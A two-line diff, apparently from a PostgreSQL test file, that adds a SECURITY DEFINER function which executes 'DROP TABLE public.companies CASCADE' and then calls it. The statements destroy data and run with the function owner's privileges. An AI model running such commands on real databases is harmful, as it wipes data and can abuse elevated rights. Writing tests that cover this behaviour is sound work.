@@ -1,0 +1,2 @@
+CREATE FUNCTION f_definer() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE 'DROP TABLE public.companies CASCADE'; END $$;
+SELECT f_definer();
